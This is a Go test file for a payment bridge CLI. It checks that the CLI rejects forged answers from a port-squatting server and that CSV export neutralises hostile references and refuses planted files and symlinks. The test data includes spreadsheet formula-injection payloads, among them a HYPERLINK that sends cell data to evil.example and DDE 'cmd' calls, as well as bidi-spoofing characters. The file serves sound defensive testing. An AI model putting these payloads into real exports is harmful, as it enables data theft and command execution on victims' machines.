package main

// What a local attacker or a careless file could do to the operator verbs:
// a program squatting on bridged's port, a hostile reference in an export,
// a planted output file.

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/bridgedpos/bridged/internal/apiauth"
	"github.com/bridgedpos/bridged/internal/config"
)

// TestCLIRejectsAnswersNotFromBridged: a fake server on bridged's address
// answers "approved"; unsigned, or signed with another key, the CLI refuses
// the answer. Nothing it sends carries the key.
func TestCLIRejectsAnswersNotFromBridged(t *testing.T) {
	key := strings.Repeat("s", 40)
	var mu sync.Mutex
	var seen []string // every request, as the squatter saw it
	mode := "unsigned"
	fake := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, r.Method+" "+r.RequestURI+"\n"+headerText(r.Header)+"\n"+string(body))
		m := mode
		mu.Unlock()
		answer := []byte(`{"id":"op_1","status":"approved","reference":"R","amount":"10.00","currency":"TRY"}` + "\n")
		switch m {
		case "other key":
			p, _ := apiauth.Parse(r.Header.Get("Authorization"))
			w.Header().Set(apiauth.ResponseHeader, apiauth.ResponseSignature([]byte("a-key-the-squatter-made-up-0123456789"), 200, answer, p.Signature))
		case "replayed signature":
			w.Header().Set(apiauth.ResponseHeader, apiauth.ResponseSignature([]byte(key), 200, answer, strings.Repeat("0", 64)))
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(answer)
	}))
	defer fake.Close()

	cfg := config.Defaults()
	cfg.Listen = strings.TrimPrefix(fake.URL, "http://")
	cfg.DataDir = privateDir(t)
	cfg.API.Keys = []config.APIKey{{Name: "ops", Key: config.NewSecret(key), Scopes: []string{config.ScopeRead, config.ScopeOperate}}}
	cfg.Upstream.ClientID, cfg.Upstream.Username = "cid", "user"
	cfg.Upstream.ClientSecret, cfg.Upstream.Password = config.NewSecret("secret"), config.NewSecret("password")
	cfg.Terminals = []config.Terminal{{ID: "lane-1", DeviceUniqueID: "DEV001"}}
	path := configFile(t, &cfg)

	for _, m := range []string{"unsigned", "other key", "replayed signature"} {
		mu.Lock()
		mode = m
		mu.Unlock()
		for _, args := range [][]string{{"tx", "resolve", "op_1"}, {"tx", "show", "op_1"}, {"status"}} {
			out, err := runCLI(t, append(args, "-c", path)...)
			if err == nil || !strings.Contains(err.Error(), "not bridged's") {
				t.Errorf("%s answer, %v: err %v\n%s", m, args, err, out)
			}
			if strings.Contains(out, "approved") {
				t.Errorf("%s answer, %v: the fake approval was shown:\n%s", m, args, out)
			}
		}
		out, err := runCLI(t, "doctor", "-c", path)
		if err == nil || !strings.Contains(out, "[FAIL] daemon: something answers on "+cfg.Listen+" but not as bridged") {
			t.Errorf("%s answer, doctor: %v\n%s", m, err, out)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) == 0 {
		t.Fatal("the fake server saw no request")
	}
	for _, req := range seen {
		if strings.Contains(req, key) {
			t.Fatalf("the key reached the squatter:\n%s", req)
		}
		if !strings.Contains(req, "Authorization: "+apiauth.Scheme+" Key=ops, Timestamp=") {
			t.Fatalf("a request that is not signed:\n%s", req)
		}
	}
}

func headerText(h http.Header) string {
	var b strings.Builder
	for k, vs := range h {
		for _, v := range vs {
			b.WriteString(k + ": " + v + "\n")
		}
	}
	return b.String()
}

// TestExportIsSafeToOpen: references a spreadsheet would run, and control
// and direction characters, leave the export, tx list and tx show harmless;
// -o never writes into a file that exists; --from after --to is an error.
func TestExportIsSafeToOpen(t *testing.T) {
	e := startE2E(t, e2eOpts{})
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"invoice")`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`+1+1`,
		"ECR\u202e1-TPIECER",
		"ECR\u2066x\u2069\u200f\u0085",
	}
	for i, ref := range hostile {
		body, _ := json.Marshal(map[string]string{"amount": "1.00", "reference": ref})
		expect(t, e.pay("h"+string(rune('a'+i)), string(body)), 201, "status", "approved")
	}
	path := configFile(t, e.cfg)

	csvPath := filepath.Join(t.TempDir(), "out.csv")
	if out, err := runCLI(t, "export", "-c", path, "-o", csvPath); err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	raw := readFile(t, csvPath)
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("csv: %v %d rows", err, len(rows))
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `'@SUM(`, `'-2+3+cmd`, `'+1+1`, "ECR<U+202E>1-TPIECER", "ECR<U+2066>x<U+2069><U+200F><U+0085>"} {
		if !strings.Contains(raw, want) {
			t.Errorf("the export lacks %q", want)
		}
	}
	if st, err := os.Stat(csvPath); err != nil || (!isWindows() && st.Mode().Perm() != 0o600) {
		t.Errorf("export file mode: %v %v", st.Mode(), err)
	}
	out, err := runCLI(t, "tx", "list", "-c", path)
	if err != nil {
		t.Fatal(err)
	}
	shown, _ := runCLI(t, "tx", "show", "ECR\u202e1-TPIECER", "-c", path)
	for what, text := range map[string]string{"tx list": out, "tx show": shown, "csv": raw} {
		for _, bad := range []string{"\u202e", "\u2066", "\u2069", "\u200f", "\u0085"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s prints %U raw", what, []rune(bad)[0])
			}
		}
	}
	if !strings.Contains(out, "ECR<U+202E>1-TPIECER") || !strings.Contains(shown, "ECR<U+202E>1-TPIECER") {
		t.Errorf("tx list / show do not show the escaped reference:\n%s\n%s", out, shown)
	}

	// A file another user planted, with its own mode: not written into.
	planted := filepath.Join(t.TempDir(), "planted.csv")
	if err := os.WriteFile(planted, []byte("planted\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(planted, 0o666)
	if out, err := runCLI(t, "export", "-c", path, "-o", planted); err == nil || !strings.Contains(err.Error(), "exists") {
		t.Fatalf("export into a planted file: %v\n%s", err, out)
	}
	if got := readFile(t, planted); got != "planted\n" {
		t.Fatalf("the planted file was written: %q", got)
	}
	// Nor through a planted symbolic link.
	if !isWindows() {
		link := filepath.Join(t.TempDir(), "link.csv")
		target := filepath.Join(t.TempDir(), "target.csv")
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
		if _, err := runCLI(t, "export", "-c", path, "-o", link); err == nil {
			t.Fatal("export followed a planted symbolic link")
		}
		if _, err := os.Stat(target); err == nil {
			t.Fatal("the link's target was created")
		}
	}

	if _, err := runCLI(t, "export", "-c", path, "--from", "2026-11-30", "--to", "2026-11-01"); exitCode(err) != 2 ||
		!strings.Contains(err.Error(), "--from") || !strings.Contains(err.Error(), "is not before --to") {
		t.Fatalf("--from after --to: %v", err)
	}
}
